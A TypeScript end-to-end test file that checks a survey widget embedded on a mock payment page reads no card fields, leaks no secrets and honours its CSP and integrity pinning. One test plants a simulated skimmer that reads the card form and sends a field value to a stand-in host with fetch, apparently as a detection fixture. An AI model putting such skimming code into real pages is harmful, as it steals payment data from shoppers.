import { createHash } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { beforeAll, expect, test } from 'vitest'
import { describeInBrowser } from './browser.ts'
import { browsing } from './browsing.ts'
import { type WatchedWindow, watchPage } from './pageWatch.ts'
import { type Evidence, evidenceOf, type SentRequest } from './paymentEvidence.ts'
import { publish } from './publish.ts'
import { questionOn } from './question.ts'
import { site } from './site.ts'

const root = dirname(dirname(fileURLToPath(import.meta.url)))
const doc = join(root, 'docs/payment-pages.md')
const card = { number: '4242424242424242', name: 'Ada Lovelace', expiry: '12/34', code: '737' }
const integrityOf = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`

describeInBrowser('On a payment page', () => {
  const { visit, tyck } = browsing()
  const { page } = site({ tyck })
  /** The one-file build, as the service gives it. */
  let script: { path: string; text: string }
  /** The headers that the manual asks for. */
  let policy: Record<string, string>
  beforeAll(async () => {
    await publish(tyck(), 'checkout.card')
    const { version } = JSON.parse(await readFile(join(root, 'packages/widget/dist/manifest.json'), 'utf8'))
    const path = `/v/${version}/tyck.full.js`
    const lines = (await readFile(doc, 'utf8')).match(/^(Content-Security|Integrity)-Policy: .*$/gm) ?? []
    policy = Object.fromEntries(
      lines.map(line => {
        const [name = '', value = ''] = line.split(/: (.*)/)
        return [name.toLowerCase(), value.replaceAll('https://feedback.example', tyck().apiUrl)]
      }),
    )
    script = { path, text: await (await fetch(tyck().apiUrl + path)).text() }
  })

  /** A payment page under the policy of the manual, with the script pinned to `integrity`. */
  const payment = (integrity: string) => {
    const headers = {
      ...policy,
      // What the page itself needs stands before it.
      'content-security-policy': `default-src 'none'; style-src 'self'; img-src data:; ${policy['content-security-policy']}`,
    }
    const styles = page('tyck-survey { display: block; min-block-size: 11rem }', {
      'content-type': 'text/css',
    })
    const field = (name: keyof typeof card) =>
      `<p><label>${name} <input name="${name}" id="${name}"></label></p>`
    return page(
      `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Pay</title><link rel="icon" href="data:,">
      <link rel="stylesheet" href="${styles}">
      <script async crossorigin="anonymous" integrity="${integrity}" src="{{TYCK}}${script.path}"
        data-key="pk_demo" data-test="false"></script></head>
      <body><h1>Pay</h1><form method="post">${Object.keys(card)
        .map(name => field(name as 'name'))
        .join('')}</form>
      <tyck-survey touchpoint="checkout.card" metadata='{"orderValue":420,"paymentMethod":"card"}'></tyck-survey>
      </body></html>`,
      headers,
    )
  }

  /** Opens it as somebody who has cookies here and there, types the card and lets the script come. */
  async function open(text: string, integrity: string) {
    const one = await visit()
    const { context, page: tab } = one
    const address = `${payment(integrity)}?session=s3cr3t#card`
    await context.addCookies([tyck().apiUrl, address].map(url => ({ name: 'session', value: 's3cr3t', url })))
    await context.addInitScript(watchPage)
    const requests: Promise<SentRequest & { headers: Record<string, string> }>[] = []
    context.on('request', request => {
      const address = request.url()
      // The page itself, its style sheet and its icon, which is none.
      if (['document', 'stylesheet'].includes(request.resourceType()) || address === 'data:,') return
      requests.push(
        request.allHeaders().then(headers => ({
          method: request.method(),
          address,
          body: request.postData() ?? '',
          cookies: headers.cookie,
          headers,
        })),
      )
    })
    let type = () => {}
    const typed = new Promise<void>(resolve => {
      type = resolve
    })
    await context.route(`**${script.path}`, async route => {
      await typed
      const headers = { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }
      await (text === script.text ? route.continue() : route.fulfill({ body: text, headers }))
    })
    await tab.clock.pauseAt(Date.now() + 60_000)
    await tab.goto(address, { waitUntil: 'domcontentloaded' })
    for (const [name, value] of Object.entries(card)) await tab.locator(`#${name}`).pressSequentially(value)
    type()
    const watch = () => tab.evaluate(() => (window as unknown as WatchedWindow).pageWatch())
    return { ...one, requests, watch, question: questionOn(tab) }
  }

  /** Somebody is shown the question, taps, writes why, sends it and is thanked; then what was seen is put together. */
  async function journey(text: string): Promise<Evidence & { sent: string }> {
    const { page: tab, question, watch, ...one } = await open(text, integrityOf(text))
    await question.status.waitFor({ state: 'attached' })
    await expect
      .poll(async () => {
        await tab.clock.runFor(1_000)
        return (await watch()).calls.filter(call => call.startsWith('fetch POST')).length
      })
      .toBe(1)
    await tab.clock.runFor(4_000)
    await question.tap(9)
    await expect.poll(() => question.status.textContent()).toBe('Saved')
    await question.comment.pressSequentially('Quick and easy')
    await tab.clock.runFor(6_000)
    await question.send.click()
    await expect.poll(() => question.thanks.textContent()).toContain('Saved')
    expect(await one.rows()).toMatchObject([{ score: 9, comment: 'Quick and easy' }])

    const found = await watch()
    const requests = await Promise.all(one.requests)
    const { origins } = await one.context.storageState()
    const session = await tab.evaluate(() => Object.keys(sessionStorage))
    return {
      script: { path: script.path, bytes: Buffer.byteLength(text), integrity: integrityOf(text) },
      requests,
      watch: found,
      left: [
        ...origins.flatMap(({ localStorage }) => localStorage.map(({ name }) => `localStorage ${name}`)),
        ...session.map(name => `sessionStorage ${name}`),
      ],
      service: tyck().apiUrl,
      sent: JSON.stringify(requests),
    }
  }

  test('reads no card field, changes nothing outside its element, and does what the manual says', async () => {
    const { sent, ...evidence } = await journey(script.text)
    const { integrity } = JSON.parse(await readFile(join(root, 'packages/widget/dist/manifest.json'), 'utf8'))
    expect(integrity['tyck.full.js']).toBe(evidence.script.integrity)
    expect(evidence.watch).toMatchObject({
      fields: [],
      changes: [],
      cookies: [],
      replaced: [],
      violations: [],
      globals: ['tyck'],
      definitions: ['tyck-survey'],
    })
    // Nothing of the card, of cookies, or of the address behind its path goes anywhere.
    for (const secret of [card.number, card.name, 's3cr3t', '#card']) expect(sent).not.toContain(secret)

    const tables = evidenceOf(evidence)
    console.log(`\n${tables}\n`)
    // Where they differ, `npx vitest run --project e2e e2e/payment-pages.test.ts -u` puts them into the manual.
    const manual = await readFile(doc, 'utf8')
    const marked = /(<!-- evidence, .*? -->\n).*?(\n<!-- end of the evidence -->)/s
    expect(manual).toMatch(marked)
    const renewed = manual.replace(marked, (_, begin, end) => `${begin}\n${tables}\n${end}`)
    await expect(renewed).toMatchFileSnapshot(doc)
  })

  test('a build that did otherwise would be caught, each thing in its row', async () => {
    const plant = () => {
      document.addEventListener('tyck:answered', () => {
        const number = document.querySelector<HTMLInputElement>('#number')
        const copy = number?.form?.cloneNode(true) as HTMLFormElement
        document.body.append(`${number?.value}`.slice(0, 0))
        void new FormData(copy)
        const field = copy.elements[3] as HTMLInputElement
        try {
          fetch(`https://elsewhere.example/?${field.value}`).catch(() => {})
          // biome-ignore lint/security/noGlobalEval: this is what must be refused
          eval('1')
        } catch {
          // The policy.
        }
      })
      window.addEventListener('keydown', () => {}, true)
      // biome-ignore lint/suspicious/noDocumentCookie: this is what must be seen
      document.cookie = 'seen=1'
      sessionStorage.seen = '1'
      history.replaceState(null, '', '?')
      Object.assign(window, { leak: 1 })
      const { closest } = Element.prototype
      Element.prototype.closest = function (...given: [string]) {
        return closest.apply(this, given)
      }
    }
    const { watch, ...evidence } = await journey(`${script.text};(${plant})()`)
    expect(watch.fields).toEqual(['<input>.value', 'new FormData(<form>)', '<input>.value'])
    expect(watch.changes).toEqual(['<body> childList'])
    expect(watch.elements).toContain('document.querySelector(#number)')
    expect(watch.listeners).toContain('window keydown')
    expect(watch.cookies).toEqual(['cookie ='])
    expect(watch.storage).toContain('sessionStorage write seen')
    expect(watch.calls).toContain('history.replaceState')
    expect(watch.calls).toContain(`fetch GET https://elsewhere.example/?${card.code}`)
    expect(watch.violations).toEqual([
      `connect-src https://elsewhere.example/?${card.code}`,
      'require-trusted-types-for trusted-types-sink',
    ])
    expect(watch.globals).toEqual(['tyck', 'leak'])
    expect(watch.replaced).toEqual(['Element.prototype.closest'])
    expect(evidenceOf({ watch, ...evidence })).toContain(
      '| values of form fields read or set, forms read | 2: `<input>.value`, `new FormData(<form>)` |',
    )
  })

  test('a file with one more byte than was pinned never runs, and the page is none the worse', async () => {
    const {
      page: tab,
      question,
      complaints,
      watch,
    } = await open(`${script.text}\n`, integrityOf(script.text))
    await expect.poll(() => complaints.join()).toContain('integrity')
    expect(await question.panel.count()).toBe(0)
    expect(await watch()).toMatchObject({ globals: [], calls: [], storage: [] })
    expect(await tab.locator('#number').inputValue()).toBe(card.number)
  })
})
